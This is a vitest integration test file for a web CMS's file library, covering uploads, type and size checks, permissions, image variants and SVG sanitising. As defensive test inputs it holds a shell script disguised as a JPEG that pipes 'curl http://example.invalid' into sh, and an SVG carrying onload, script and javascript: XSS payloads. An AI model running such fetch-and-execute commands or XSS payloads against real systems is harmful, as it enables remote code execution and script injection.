import { existsSync, readdirSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DUPLICATE_FILE_MESSAGE, FILES_PER_PAGE, WRONG_FILE_TYPE_MESSAGE } from '@gartenwerk/domain';
import { databaseKinds } from '@gartenwerk/test-helpers';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, call, startTestServer, type TestServer } from '../../../test/support';
import { LocalStorage } from '../../core/storage';
import { createFileLibrary, MB } from './library';
import type { BrowserData, FileDoc } from './schemas';

/** A multipart/form-data body with one file and an optional tags field, as the admin's uploader sends it. */
function multipart(
  filename: string,
  content: Buffer,
  tags?: unknown,
): { payload: Buffer; headers: Record<string, string> } {
  const boundary = `----gartenwerk${Math.random().toString(16).slice(2)}`;
  const parts: Buffer[] = [];
  if (tags !== undefined) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="tags"\r\n\r\n${typeof tags === 'string' ? tags : JSON.stringify(tags)}\r\n`,
      ),
    );
  }
  parts.push(
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="${filename}"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
    ),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  );
  return {
    payload: Buffer.concat(parts),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

const jpeg = (width: number, height: number, background: string) =>
  sharp({ create: { width, height, channels: 3, background } })
    .jpeg()
    .toBuffer();

describe.each(await databaseKinds())('file library on %s', (kind) => {
  let server: TestServer;
  let folder: string;
  let storage: LocalStorage;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'gartenwerk-file-test-'));
    storage = new LocalStorage(folder);
    server = await startTestServer(kind, {
      files: createFileLibrary({
        storage,
        limits: { maxUploadBytes: 1 * MB, quotaBytes: 20 * MB, maxImagePixels: 8_000_000 },
      }),
    });
  });
  afterAll(async () => {
    await server.close();
    await rm(folder, { recursive: true, force: true });
  });

  const admin = () => bearer(server.adminToken);
  const upload = async (
    filename: string,
    content: Buffer,
    tags?: unknown,
    headers: Record<string, string> = admin(),
  ) => {
    const body = multipart(filename, content, tags);
    return server.app.inject({
      method: 'POST',
      url: '/api/v0/upload',
      payload: body.payload,
      headers: { ...body.headers, ...headers },
    });
  };
  const uploaded = async (filename: string, content: Buffer, tags?: unknown): Promise<FileDoc> => {
    const response = await upload(filename, content, tags);
    expect(response.statusCode, response.body).toBe(200);
    return response.json<FileDoc[]>()[0]!;
  };
  const read = async (id: string, headers: Record<string, string> = admin()): Promise<FileDoc> => {
    const response = await server.app.inject({ method: 'GET', url: `/api/v0/file/${id}`, headers });
    expect(response.statusCode).toBe(200);
    return response.json<FileDoc>();
  };
  const storedKeys = (id: string) =>
    existsSync(join(folder, 'files', id)) ? readdirSync(join(folder, 'files', id)) : [];
  const total = async () =>
    (await server.app.inject({ method: 'GET', url: '/api/v0/file/', headers: admin() })).json<{
      total: number;
    }>().total;

  let portrait: FileDoc;

  it('stores an upload, answers before the variants exist, then makes them in the background', async () => {
    portrait = await uploaded('Thuja Hecke.jpg', await jpeg(2000, 3000, '#2f6b2f'), [
      'Pflanzen|Hecken',
      '',
      '  ',
    ]);
    expect(portrait).toMatchObject({
      name: 'Thuja Hecke.jpg',
      ext: 'jpg',
      mime: 'image/jpeg',
      isImg: true,
      res: { w: 2000, h: 3000 },
      tags: ['Pflanzen|Hecken', 'upload_queued'],
      processing: true,
      gridrefs: [],
    });
    await server.app.jobs.idle();
    const done = await read(portrait._id);
    expect(done.processing).toBe(false);
    expect(done.gridrefs.map((variant) => variant.res)).toEqual([
      { w: 400, h: 600 },
      { w: 800, h: 1200 },
      { w: 1200, h: 1800 },
      { w: 1600, h: 2400 },
      { w: 2000, h: 3000 },
    ]);
    expect(done.gridrefs_ng.map((variant) => variant.res)).toEqual(
      done.gridrefs.map((variant) => variant.res),
    );
    // The spec's rule: the smallest variant at least 800 wide and 1024 high.
    expect(done.gridrefs.find((variant) => variant.gridref === done.gridref)?.res).toEqual({
      w: 800,
      h: 1200,
    });
    expect(storedKeys(portrait._id)).toHaveLength(1 + 10);
    portrait = done;
  });

  it('refuses the same content twice with C1 and keeps nothing of the second upload', async () => {
    const before = await total();
    const response = await upload('kopie.jpg', await jpeg(2000, 3000, '#2f6b2f'));
    expect(response.statusCode).toBe(409);
    expect(response.json()).toEqual({ statusCode: 409, code: 'C1', message: DUPLICATE_FILE_MESSAGE });
    expect(await total()).toBe(before);
    expect(readdirSync(join(folder, 'files')).sort()).toEqual([portrait._id]);
  });

  it('refuses a type off the allow-list, judged by the bytes', async () => {
    const response = await upload('notizen.txt', Buffer.from('Gießplan: Montag und Donnerstag\n'));
    expect(response.statusCode).toBe(415);
    expect(response.json()).toEqual({
      statusCode: 415,
      code: 'WRONG_TYPE',
      message: WRONG_FILE_TYPE_MESSAGE,
    });
    const english = await upload('notizen.txt', Buffer.from('Gießplan\n'), undefined, {
      ...admin(),
      'accept-language': 'en',
    });
    expect(english.json()).toEqual({ statusCode: 415, code: 'WRONG_TYPE', message: 'Wrong file type' });
  });

  it('refuses a script disguised as a .jpg and leaves nothing in storage', async () => {
    const before = await total();
    const response = await upload('urlaub.jpg', Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n'));
    expect(response.statusCode).toBe(415);
    expect(response.json<{ message: string }>().message).toBe(WRONG_FILE_TYPE_MESSAGE);
    expect(await total()).toBe(before);
    expect(readdirSync(join(folder, 'files'))).toEqual([portrait._id]);
  });

  it('refuses a file above the size limit with 413 and a clear message', async () => {
    const big = Buffer.concat([await jpeg(10, 10, '#000'), Buffer.alloc(MB + 10, 7)]);
    const response = await upload('riesig.jpg', big);
    expect(response.statusCode).toBe(413);
    expect(response.json()).toEqual({
      statusCode: 413,
      code: 'FILE_TOO_LARGE',
      message: 'Datei zu groß: erlaubt sind höchstens 1 MB',
    });
    expect(readdirSync(join(folder, 'files'))).toEqual([portrait._id]);
  });

  it('refuses a decompression bomb: a small file of too many pixels', async () => {
    const bomb = await sharp({ create: { width: 3000, height: 3000, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    expect(bomb.length).toBeLessThan(100_000);
    const response = await upload('bombe.png', bomb);
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({
      code: 'IMAGE_TOO_LARGE',
      message: 'Bild zu groß: 3000x3000 Pixel, erlaubt sind höchstens 8.000.000 Pixel',
    });
    const english = await upload('bombe.png', bomb, undefined, { ...admin(), 'accept-language': 'en' });
    expect(english.json()).toMatchObject({
      code: 'IMAGE_TOO_LARGE',
      message: 'Image too large: 3000x3000 pixels, at most 8,000,000 pixels are allowed',
    });
  });

  it('answers the quota and refuses uploads beyond it', async () => {
    const quota = (await server.app.inject({ method: 'GET', url: '/api/v0/quota/', headers: admin() })).json<{
      total: number;
      used: number;
    }>();
    const variantBytes = [...portrait.gridrefs, ...portrait.gridrefs_ng].reduce(
      (sum, variant) => sum + variant.size,
      0,
    );
    expect(quota).toEqual({ total: 20 * MB, used: portrait.size + variantBytes });

    const limits = server.app.files.limits;
    const saved = limits.quotaBytes;
    limits.quotaBytes = quota.used + 1000;
    try {
      const response = await upload('noch-eins.jpg', await jpeg(400, 400, '#abcdef'));
      expect(response.statusCode).toBe(413);
      expect(response.json<{ code: string; message: string }>()).toMatchObject({ code: 'QUOTA_EXCEEDED' });
      expect(response.json<{ message: string }>().message).toMatch(/^Speicherplatz erschöpft/);
    } finally {
      limits.quotaBytes = saved;
    }
  });

  it('lets only admin and system change the library (C100 for others)', async () => {
    const refused = { statusCode: 403, code: 'C100', message: 'Dafür fehlt Ihnen die Berechtigung.' };
    const image = await jpeg(300, 300, '#123456');
    for (const headers of [{}, bearer(server.userToken)]) {
      expect((await upload('x.jpg', image, [], headers)).json()).toEqual(refused);
      const calls = [
        { method: 'PUT' as const, url: '/api/v0/file/', payload: { _id: portrait._id, tags: [] } },
        { method: 'DELETE' as const, url: `/api/v0/file/${portrait._id}` },
        { method: 'POST' as const, url: '/api/v0/rotate/', payload: { _id: portrait._id, angle: 90 } },
        {
          method: 'POST' as const,
          url: '/api/v0/crop/',
          payload: { _id: portrait._id, x: 0, y: 0, w: 10, h: 10 },
        },
        { method: 'GET' as const, url: '/api/v0/quota/' },
        { method: 'POST' as const, url: '/api/v1/file/getDataFileBrowser', payload: { filter: {} } },
      ];
      for (const call of calls) {
        const response = await server.app.inject({ ...call, headers });
        expect(response.statusCode, `${call.method} ${call.url}`).toBe(403);
        expect(response.json()).toEqual(refused);
      }
    }
    expect((await read(portrait._id)).tags).toEqual(['Pflanzen|Hecken', 'upload_queued']);
  });

  it('lets anyone read public files but only admins private ones', async () => {
    expect((await read(portrait._id, {})).name).toBe('Thuja Hecke.jpg');
    const secret = await uploaded(
      'intern.pdf',
      Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n'),
    );
    expect(secret.ext).toBe('pdf');
    await server.app.inject({
      method: 'PUT',
      url: '/api/v0/file/',
      headers: admin(),
      payload: { _id: secret._id, public: false },
    });
    const guestDownload = await call(server, 'GET', `/api/v0/download/${secret._id}`);
    expect(guestDownload.statusCode).toBe(403);
    expect(guestDownload.json()).toMatchObject({ code: 'C100' });
    const guestList = (await call(server, 'GET', '/api/v0/file/')).json<{
      items: FileDoc[];
    }>();
    expect(guestList.items.map((file) => file._id)).not.toContain(secret._id);
    const adminDownload = await server.app.inject({
      method: 'GET',
      url: `/api/v0/download/${secret._id}`,
      headers: admin(),
    });
    expect(adminDownload.statusCode).toBe(200);
    expect(adminDownload.headers['content-type']).toBe('application/pdf');
    expect(adminDownload.headers['cache-control']).toBe('private, no-cache');
    const batch = await call(server, 'POST', '/api/v0/batch/file/', { ids: [secret._id, portrait._id] });
    expect(batch.json<{ items: FileDoc[] }>().items.map((file) => file._id)).toEqual([portrait._id]);
    // The GET batch (for the server render) keeps the same rule: guests get the public files only.
    const guestBatch = await call(server, 'GET', `/api/v0/batch/file/?ids=${secret._id},${portrait._id}`);
    expect(guestBatch.statusCode).toBe(200);
    expect(guestBatch.json<{ items: FileDoc[] }>().items.map((file) => file._id)).toEqual([portrait._id]);
    const adminBatch = await server.app.inject({
      method: 'GET',
      url: `/api/v0/batch/file/?ids=${portrait._id},${secret._id}`,
      headers: admin(),
    });
    expect(adminBatch.json<{ items: FileDoc[] }>().items.map((file) => file._id)).toEqual([
      portrait._id,
      secret._id,
    ]);
  });

  it('serves the spec variant, as webp when the browser accepts it', async () => {
    const plain = await server.app.inject({
      method: 'GET',
      url: `/api/v0/download/${portrait._id}`,
      headers: { accept: 'image/png,image/*' },
    });
    expect(plain.statusCode).toBe(200);
    expect(plain.headers['content-type']).toBe('image/jpeg');
    expect(plain.headers.vary).toBe('Accept');
    expect(await sharp(plain.rawPayload).metadata()).toMatchObject({
      format: 'jpeg',
      width: 800,
      height: 1200,
    });

    const webp = await server.app.inject({
      method: 'GET',
      url: `/api/v0/download/${portrait._id}`,
      headers: { accept: 'image/avif,image/webp,*/*' },
    });
    expect(webp.headers['content-type']).toBe('image/webp');
    expect(await sharp(webp.rawPayload).metadata()).toMatchObject({
      format: 'webp',
      width: 800,
      height: 1200,
    });
    expect(webp.headers.etag).not.toBe(plain.headers.etag);

    const original = await call(
      server,
      'GET',
      `/api/v0/download/${portrait._id}?original=true&download=true`,
    );
    expect(original.headers['content-type']).toBe('image/jpeg');
    expect(original.rawPayload.length).toBe(portrait.size);
    expect(original.headers['content-disposition']).toBe(
      `attachment; filename="Thuja Hecke.jpg"; filename*=UTF-8''Thuja%20Hecke.jpg`,
    );

    const variant = portrait.gridrefs[0]!;
    const named = await call(server, 'GET', `/api/v0/download/${portrait._id}/${variant.gridref}`);
    expect(named.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(await sharp(named.rawPayload).metadata()).toMatchObject({ width: 400, height: 600 });
  });

  it('answers Range requests and revalidation by ETag', async () => {
    const url = `/api/v0/download/${portrait._id}?original=true`;
    const whole = await server.app.inject({ method: 'GET', url });
    expect(whole.headers['accept-ranges']).toBe('bytes');
    const part = await server.app.inject({ method: 'GET', url, headers: { range: 'bytes=100-299' } });
    expect(part.statusCode).toBe(206);
    expect(part.headers['content-range']).toBe(`bytes 100-299/${portrait.size}`);
    expect(part.rawPayload.equals(whole.rawPayload.subarray(100, 300))).toBe(true);
    const tail = await server.app.inject({ method: 'GET', url, headers: { range: 'bytes=-50' } });
    expect(tail.rawPayload.equals(whole.rawPayload.subarray(portrait.size - 50))).toBe(true);
    const beyond = await server.app.inject({
      method: 'GET',
      url,
      headers: { range: `bytes=${portrait.size}-` },
    });
    expect(beyond.statusCode).toBe(416);
    expect(beyond.headers['content-range']).toBe(`bytes */${portrait.size}`);
    const again = await server.app.inject({
      method: 'GET',
      url,
      headers: { 'if-none-match': String(whole.headers.etag) },
    });
    expect(again.statusCode).toBe(304);
  });

  it('keeps tags clean, nests them by |, keeps built-ins and filters by them', async () => {
    const response = await server.app.inject({
      method: 'PUT',
      url: '/api/v0/file/',
      headers: admin(),
      payload: {
        _id: portrait._id,
        name: 'Thuja Smaragd.jpg',
        tags: ['Pflanzen | Hecken | Thuja', '', 'in_gallery', 'recently_uploaded'],
      },
    });
    expect(response.statusCode).toBe(200);
    // upload_queued could not be removed; empty and virtual tags are dropped.
    expect(response.json<FileDoc[]>()[0]).toMatchObject({
      name: 'Thuja Smaragd.jpg',
      tags: ['Pflanzen|Hecken|Thuja', 'in_gallery', 'upload_queued'],
    });

    const browse = async (filter: object) =>
      (
        await server.app.inject({
          method: 'POST',
          url: '/api/v1/file/getDataFileBrowser',
          headers: admin(),
          payload: { filter },
        })
      ).json<BrowserData>();
    const byParent = await browse({ tag: 'Pflanzen' });
    expect(byParent.files.map((file) => file._id)).toEqual([portrait._id]);
    expect(byParent.numItems).toBe(1);
    expect((await browse({ tag: 'Pflanz' })).numItems).toBe(0);
    const all = await browse({ tag: 'all' });
    expect(all.numItems).toBe(2);
    expect(all.availableTags).toEqual([
      'all',
      'recently_uploaded',
      'upload_queued',
      'in_gallery',
      'Pflanzen|Hecken|Thuja',
    ]);
    expect(all.availableExt).toEqual(['jpg', 'pdf']);
    expect((await browse({ tag: 'recently_uploaded' })).numItems).toBe(2);
    expect((await browse({ page: 2 })).files).toHaveLength(0);
    expect((await browse({ name: 'smaragd' })).numItems).toBe(1);

    const gallery = await call(server, 'POST', '/api/v1/file/getDataGalleryBrowser', {
      filter: {},
      token: '',
    });
    expect(gallery.json<BrowserData>().files.map((file) => file._id)).toEqual([portrait._id]);
    const search = await call(server, 'POST', '/api/v0/search/file/', { tag: 'Pflanzen|Hecken' });
    expect(search.json<{ total: number }>().total).toBe(1);
  });

  it('pages the browser by 10', async () => {
    for (let index = 0; index < FILES_PER_PAGE; index++) {
      await uploaded(
        `klein-${index}.png`,
        await sharp({
          create: { width: 20, height: 20, channels: 3, background: { r: index * 20, g: 90, b: 40 } },
        })
          .png()
          .toBuffer(),
        ['Seite'],
      );
    }
    await server.app.jobs.idle();
    const page = async (number: number) =>
      (
        await server.app.inject({
          method: 'POST',
          url: '/api/v1/file/getDataFileBrowser',
          headers: admin(),
          payload: { filter: { page: number } },
        })
      ).json<BrowserData>();
    expect((await page(1)).files).toHaveLength(FILES_PER_PAGE);
    expect((await page(2)).files).toHaveLength(2);
    expect((await page(2)).numItems).toBe(FILES_PER_PAGE + 2);
  });

  it('rotates and crops into new variants, keeps the original, and drops the old variants', async () => {
    const oldGridrefs = portrait.gridrefs.map((variant) => variant.gridref);
    const rotated = await server.app.inject({
      method: 'POST',
      url: '/api/v0/rotate/',
      headers: admin(),
      payload: { _id: portrait._id, angle: 90 },
    });
    expect(rotated.statusCode).toBe(200);
    expect(rotated.json<FileDoc[]>()[0]).toMatchObject({ processing: true, res: { w: 3000, h: 2000 } });
    await server.app.jobs.idle();
    const turned = await read(portrait._id);
    expect(turned.gridrefs.at(-1)?.res).toEqual({ w: 2400, h: 1600 });
    // Landscape now: 800 wide is too low, the first one at least 1024 high is 1600×1067.
    expect(turned.gridrefs.find((variant) => variant.gridref === turned.gridref)?.res).toEqual({
      w: 1600,
      h: 1067,
    });
    for (const gridref of oldGridrefs) {
      expect((await call(server, 'GET', `/api/v0/download/${portrait._id}/${gridref}`)).statusCode).toBe(404);
    }
    expect(storedKeys(portrait._id)).toHaveLength(1 + turned.gridrefs.length * 2);

    const outside = await server.app.inject({
      method: 'POST',
      url: '/api/v0/crop/',
      headers: admin(),
      payload: { _id: portrait._id, x: 2500, y: 0, w: 600, h: 100 },
    });
    expect(outside.statusCode).toBe(400);
    const cropped = await server.app.inject({
      method: 'POST',
      url: '/api/v0/crop/',
      headers: admin(),
      payload: { _id: portrait._id, x: 100, y: 100, w: 1000, h: 1000 },
    });
    expect(cropped.json<FileDoc[]>()[0]?.res).toEqual({ w: 1000, h: 1000 });
    await server.app.jobs.idle();
    const square = await read(portrait._id);
    expect(square.gridrefs.map((variant) => variant.res)).toEqual([
      { w: 400, h: 400 },
      { w: 800, h: 800 },
      { w: 1000, h: 1000 },
    ]);
    const original = await call(server, 'GET', `/api/v0/download/${portrait._id}?original=true`);
    expect(await sharp(original.rawPayload).metadata()).toMatchObject({ width: 2000, height: 3000 });
    portrait = square;
  });

  it('sanitises an SVG before it is ever served', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)">' +
        '<script>alert(2)</script><circle cx="5" cy="5" r="4" fill="green"/>' +
        '<a href="javascript:alert(3)"><rect width="1" height="1"/></a>' +
        '<foreignObject><iframe src="https://example.invalid"></iframe></foreignObject></svg>',
    );
    const file = await uploaded('logo.svg', svg);
    expect(file).toMatchObject({ ext: 'svg', mime: 'image/svg+xml', isImg: true, processing: false });
    const served = await call(server, 'GET', `/api/v0/download/${file._id}`);
    expect(served.headers['content-type']).toBe('image/svg+xml');
    expect(served.headers['content-security-policy']).toContain("default-src 'none'");
    const text = served.body;
    expect(text).toContain('<circle cx="5" cy="5" r="4" fill="green"');
    for (const unsafe of ['script', 'alert', 'onload', 'javascript', 'iframe', 'foreignObject'])
      expect(text).not.toContain(unsafe);
  });

  it('deletes a file with its original and every variant', async () => {
    expect(storedKeys(portrait._id).length).toBeGreaterThan(1);
    const response = await server.app.inject({
      method: 'DELETE',
      url: `/api/v0/file/${portrait._id}`,
      headers: admin(),
    });
    expect(response.statusCode).toBe(200);
    expect(storedKeys(portrait._id)).toEqual([]);
    expect((await call(server, 'GET', `/api/v0/download/${portrait._id}`)).statusCode).toBe(404);
    const again = await server.app.inject({
      method: 'DELETE',
      url: '/api/v0/file/',
      headers: admin(),
      payload: { _id: portrait._id },
    });
    expect(again.statusCode).toBe(404);
  });
});
